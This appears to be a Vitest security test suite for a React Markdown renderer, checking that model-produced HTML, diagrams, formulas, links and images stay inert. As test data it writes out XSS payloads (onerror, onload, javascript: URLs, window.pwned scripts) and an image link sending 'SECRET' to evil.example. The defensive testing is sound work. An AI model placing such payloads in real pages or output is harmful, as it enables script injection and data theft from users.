import { render, screen, waitFor, within } from '@testing-library/react'
import { type ReactNode } from 'react'
import { expect, it, vi } from 'vitest'
import { Markdown } from './Markdown'
import { xssCorpus } from '../../shared/testing/xssCorpus'
import { activeMarkup } from '../testing/activeMarkup'
import { collectTexts } from '../testing/namesOf'
import { tinyPng } from '../testing/tinyPng'
import { user } from '../testing/user'

const nothing = (): void => undefined
const markdown = (text: string, open = false): ReactNode => <Markdown key={text} text={text} open={open} onLink={nothing} />

const allowed = new Set(
  'DIV P SPAN BDI B STRONG EM DEL CODE PRE FIGURE FIGCAPTION BUTTON SVG PATH RECT CIRCLE LINE UL OL LI H1 H2 H3 H4 H5 H6 BLOCKQUOTE HR BR TABLE THEAD TBODY TR TH TD INPUT SUB SUP KBD DETAILS SUMMARY SECTION'.split(
    ' ',
  ),
)
const fetching = ['src', 'srcset', 'href', 'action', 'formaction', 'data', 'ping', 'poster', 'background', 'style', 'xlink:href']

const mathMl = 'http://www.w3.org/1998/Math/MathML'

/**
 * Returns the elements and attributes that Markdown never creates. They have no role, so this checks all elements. What KaTeX draws has sizes
 * as styles.
 */
function wrongIn(page: HTMLElement): readonly string[] {
  return [...page.getElementsByTagName('*')].flatMap((element) => {
    const isOfFormula = element.closest('.katex') !== null
    const isAllowed = allowed.has(element.tagName.toUpperCase()) || (isOfFormula && element.namespaceURI === mathMl)
    return [
      ...(isAllowed ? [] : [`element ${element.tagName}`]),
      ...element
        .getAttributeNames()
        .filter((name) => name.startsWith('on') || (fetching.includes(name) && !(isOfFormula && name === 'style')))
        .map((name) => `${element.tagName} ${name}`),
    ]
  })
}

it('B01: raw HTML and scripts of a model or tool are text, whatever they are wrapped in', { tags: ['slow'], timeout: 60_000 }, async () => {
  expect(xssCorpus.length).toBeGreaterThan(700)
  const wrong: unknown[] = []
  let formulas = 0
  for (let from = 0; from < xssCorpus.length; from += 100) {
    const payloads = xssCorpus.slice(from, from + 100)
    const { container, unmount } = render(payloads.map((payload) => <article key={payload}>{markdown(payload)}</article>))
    // Formulas are drawn a little later.
    await waitFor(() => expect(container.querySelectorAll('.formula-picture[hidden]')).toHaveLength(0), { timeout: 20_000 })
    formulas += container.getElementsByClassName('katex').length
    const articles = [...container.getElementsByTagName('article')]
    expect(articles).toHaveLength(payloads.length)
    wrong.push(...articles.flatMap((article, index) => wrongIn(article).map((what) => [payloads[index], what])))
    unmount()
  }
  expect(wrong).toEqual([])
  expect(formulas).toBeGreaterThan(20)
  expect(window).not.toHaveProperty('pwned')
})

it('B01, B05: the same holds while a payload arrives piece by piece', { tags: ['slow'] }, async () => {
  const text = xssCorpus.slice(0, 40).join('\n\n')
  const { container, rerender } = render(<Markdown text="" open onLink={nothing} />)
  for (let end = 7; end < text.length; end += 97) {
    rerender(<Markdown text={text.slice(0, end)} open onLink={nothing} />)
    expect(wrongIn(container)).toEqual([])
  }
})

it('B02, B03: a diagram or chart is its own text, as code, whatever it asks of the library that would draw it', () => {
  const blocks = [
    ['mermaid', 'graph TD; A["<img src=x onerror=alert(1)>"]\nclick A "javascript:alert(1)"\n%%{init:{"securityLevel":"loose"}}%%'],
    ['echarts', '{"formatter":(()=>{window.pwned=1})()}'],
    ['html', '<script>window.pwned=1</script>'],
    ['svg', '<svg onload="window.pwned=1"></svg>'],
  ] as const
  const { container } = render(blocks.map(([language, text]) => markdown(`\`\`\`${language}\n${text}\n\`\`\``)))
  expect(collectTexts(screen.getAllByRole('group', { name: 'Code' }))).toEqual(blocks.map(([, text]) => text))
  expect(wrongIn(container)).toEqual([])
  expect(window).not.toHaveProperty('pwned')
})

it('B04: no attribute, style, formula or name of a language becomes more than text', () => {
  const gadgets = [
    '$\\href{javascript:alert(1)}{x}$ $$\\htmlData{x=1}{y}$$ $\\htmlClass{z}{y}$',
    '<div data-controller="evil" data-bind="x" ng-app hx-get="https://evil.example" x-data="alert(1)" is="evil-element">a</div>',
    '<svg><use href="data:image/svg+xml,<svg onload=alert(1)>"/></svg><style>@import "https://evil.example/x.css";</style>',
    '# Title {#id .class onclick=alert(1)}',
    '[a](https://a.example "x\\" onmouseover=alert(1)")',
    ...['__proto__', 'constructor', 'x" onclick="alert(1)', '../../x', 'javascript:alert(1)'].map((name) => `\`\`\`${name}\nx\n\`\`\``),
  ]
  const { container } = render(gadgets.map((text) => markdown(text)))
  const strange = [...container.getElementsByTagName('*')].flatMap((element) =>
    element.getAttributeNames().filter((name) => /^(?:data-(?:controller|bind)|ng-|hx-|x-|is$|id$)/.test(name)),
  )
  expect([wrongIn(container), strange, activeMarkup()]).toEqual([[], [], []])
})

it('G01: images are named with their host, and never fetched', async () => {
  const asked = vi.spyOn(globalThis, 'fetch')
  const text =
    '![chart](https://evil.example/p.png?d=SECRET) ![two][r] <img src="https://evil.example/x">\n\n[r]: https://evil.example/r.png'
  render(markdown(text))
  expect(activeMarkup()).toEqual([])
  expect(document.body.textContent).toContain('Image: chart from evil.example, not loaded')
  expect(document.body.textContent).toContain('Image: two from evil.example, not loaded')
  expect(asked).not.toHaveBeenCalled()
  asked.mockRestore()
})

it('G03: a link makes no preview, no prefetch and no favicon', async () => {
  const { container } = render(markdown('[page](https://evil.example/a) and https://evil.example/b'))
  expect(activeMarkup(document)).toEqual([])
  expect(wrongIn(container)).toEqual([])
})

it('G05: a link opens nothing by itself: a click tells its whole address', async () => {
  const clicked: string[] = []
  render(<Markdown text="[the docs](https://docs.example/a?b=1#c)" onLink={(url) => clicked.push(url)} />)
  const link = screen.getByRole('link', { name: 'the docs' })
  expect(link.hasAttribute('href')).toBe(false)
  await user.click(link)
  expect(clicked).toEqual(['https://docs.example/a?b=1#c'])
})

it('G05: a link whose text is another address says where it leads', async () => {
  render(markdown('[https://bank.com](https://evil.example/x)'))
  expect(document.body.textContent).toContain('(leads to evil.example)')
})

it('shows GFM tables, task lists and code that can be copied', async () => {
  render(markdown('| a | b |\n|---|--:|\n| 1 | 2 |\n\n- [x] done\n\n```sql\nselect 1\n```\n'))
  expect(collectTexts(screen.getAllByRole('cell'))).toEqual(['1', '2'])
  expect(screen.getByRole<HTMLInputElement>('checkbox', { name: 'Done' }).checked).toBe(true)
  expect(within(screen.getByRole('figure')).getByRole('group', { name: 'Code' }).textContent).toBe('select 1')
  expect(within(screen.getByRole('figure')).getByRole('button', { name: 'Copy' })).toBeTruthy()
})

it('draws a burst of blocks little by little, in order, and all of it', async () => {
  const text = Array.from({ length: 200 }, (_, index) => `Part ${index}.\n\n`).join('')
  const { rerender } = render(<Markdown text="" open onLink={nothing} />)
  rerender(<Markdown text={`${text}The end`} open onLink={nothing} />)
  expect(screen.queryByText('Part 199.')).toBeNull()
  expect(screen.getByText('Part 0.')).toBeInstanceOf(HTMLElement)
  await screen.findByText('The end')
  expect(screen.getAllByText(/^Part \d+\.$/)).toHaveLength(200)
})

it('draws a long text that is whole from where it is in view, and keeps the place of the rest until all of it is there', async () => {
  const text = `${Array.from({ length: 400 }, (_, index) => `Part ${index}.\n\n`).join('')}The end`
  const { container } = render(<Markdown text={text} first="end" onLink={nothing} />)
  const seen = screen.getAllByText(/^Part \d+\.$/).length
  expect(screen.getByText('Part 399.')).toBeInstanceOf(HTMLElement)
  expect(screen.getByText('The end')).toBeInstanceOf(HTMLElement)
  expect(screen.queryByText('Part 0.')).toBeNull()
  const slices = container.querySelectorAll('[data-slice]').length
  await screen.findByText('Part 0.')
  expect(screen.getAllByText(/^Part \d+\.$/)).toHaveLength(400)
  expect([seen < 200, container.querySelectorAll('[data-slice]').length]).toEqual([true, slices])
})

it('draws a short text that is whole at once', () => {
  render(markdown(`${'Part\n\n'.repeat(20)}The end`))
  expect(screen.getAllByText('Part')).toHaveLength(20)
})

it('keeps finished blocks in place while more is written', async () => {
  const { rerender } = render(<Markdown text={'First\n\nSec'} open onLink={nothing} />)
  const [first] = screen.getAllByRole('paragraph')
  rerender(<Markdown text={'First\n\nSecond\n\nThird'} open onLink={nothing} />)
  const paragraphs = screen.getAllByRole('paragraph')
  expect(paragraphs[0]).toBe(first)
  expect(collectTexts(paragraphs)).toEqual(['First', 'Second', 'Third'])
})

it('numbers footnotes wherever they are defined, and leads to them and back', async () => {
  render(markdown('A claim[^one], `[^one]` and [^none].\n\n[^one]: Its *source*\n    goes on\n\nAnother[^two].\n\n[^two]: Last'))
  const notes = within(screen.getByRole('region', { name: 'Footnotes' })).getAllByRole('listitem')
  expect(collectTexts(notes)).toEqual(['Its source\ngoes on', 'Last'])
  expect(document.body.textContent).toContain('A claim1, [^one] and [^none].')
  await user.click(screen.getByRole('link', { name: 'Footnote 2' }))
  expect(document.activeElement).toBe(notes[1])
  await user.click(screen.getByRole('button', { name: 'Back to footnote mark 2' }))
  expect(document.activeElement).toBe(screen.getByRole('link', { name: 'Footnote 2' }))
})

it('B01: makes elements of a few tags without attributes, and text of every other', () => {
  const { container } = render(
    markdown('H<sub>2</sub>O<br>x<SUP>*2*</SUP> <kbd>K</kbd> <sub class="a">b</sub> <sup>open <b>bold</b> </kbd>'),
  )
  expect([...container.querySelectorAll('sub, sup, kbd, br')].map(({ textContent }) => textContent)).toEqual(['2', '', '2', 'K'])
  expect(container.textContent).toContain('<sub class="a">b</sub> <sup>open <b>bold</b> </kbd>')
})

it('opens details with Markdown in them, and keeps everything around', async () => {
  render(markdown('Before\n<details>\n<summary>More <b>here</b></summary>\n\n- one\n\n<details>Inner</details>\n\n</details>\n\nAfter'))
  const [outer] = screen.getAllByRole('group')
  expect(outer?.textContent).toContain('More here')
  expect(collectTexts(screen.getAllByRole('listitem', { hidden: true }))).toEqual(['one'])
  expect(document.body.textContent).toMatch(/^Before.*Inner.*After$/s)
})

it('folds long code that did not grow before the eyes, and wraps the lines of every block', async () => {
  const code = `\`\`\`js\n${'x\n'.repeat(50)}\`\`\`\n`
  render(markdown(`${code}\nand\n\n${code}`))
  const [show] = screen.getAllByRole('button', { name: 'Show all 50 lines' })
  if (show) await user.click(show)
  expect(screen.getByRole('button', { name: 'Show fewer lines' }).ariaExpanded).toBe('true')
  const [wrap, other] = screen.getAllByRole('button', { name: 'Wrap lines' })
  if (wrap) await user.click(wrap)
  expect(other?.ariaPressed).toBe('true')
  if (wrap) await user.click(wrap)
})

it('J18: draws a small image whose bytes are in the text, and no SVG', () => {
  render(markdown(`![dot](data:image/png;base64,${tinyPng}) ![bad](data:image/svg+xml;base64,PHN2Zy8+)`))
  expect(document.body.textContent).toContain('Image: bad')
  expect(screen.getAllByRole('img', { name: 'dot' })).toHaveLength(1)
})

it('keeps the line breaks of a model where no wrapping made them, and joins the lines of text that was wrapped', () => {
  const verse = '**Name:** Ada\n**Born:** 1815, in *London\nat home*'
  const wrapped = `${'word '.repeat(15).trim()}\n${'more '.repeat(24).trim()}\nand its end.`
  const { container } = render(<Markdown text={`${verse}\n\n${wrapped}\n\n- one\n  two`} onLink={nothing} />)
  expect([...container.querySelectorAll('p, li')].map((part) => part.querySelectorAll('br').length)).toEqual([2, 0, 1])
})

it('keeps the line breaks of a person', () => {
  const { container } = render(<Markdown text={'one\ntwo *three\nfour*'} keepBreaks onLink={nothing} />)
  expect(container.getElementsByTagName('br')).toHaveLength(2)
})

it('F14: draws what hides in the prose of a model, and leaves Persian, Hindi and families as they are written', async () => {
  const text = 'Pay\u202E**bo\u200Bb** [si\u2066te](https://a.example/x) `co\u00ADde`\n\nمی\u200Cخواهم क\u094D\u200Dष 👨\u200D👩\u200D👧\n'
  render(markdown(text))
  const words = document.body.textContent
  for (const part of ['PayU+202E', 'boU+200Bb', 'siU+2066te', 'coU+00ADde']) expect(words).toContain(part)
  expect(words).toContain('می\u200Cخواهم क\u094D\u200Dष 👨\u200D👩\u200D👧')
})

it('goes on with a text that had ended in the middle of a word', () => {
  const page = (text: string, open: boolean) => <Markdown text={text} open={open} onLink={nothing} />
  const { rerender, container } = render(page('# One\n\nHalf of the sec', true))
  for (const [text, open] of [
    ['# One\n\nHalf of the sec', false],
    ['# One\n\nHalf of the sec', true],
    ['# One\n\nHalf of the second.', true],
    ['# One\n\nHalf of the second.\n\nMore', false],
  ] as const) {
    rerender(page(text, open))
  }
  expect(
    within(container)
      .getAllByText(/./)
      .map(({ textContent }) => textContent),
  ).toEqual(['One', 'Half of the second.', 'More'])
})
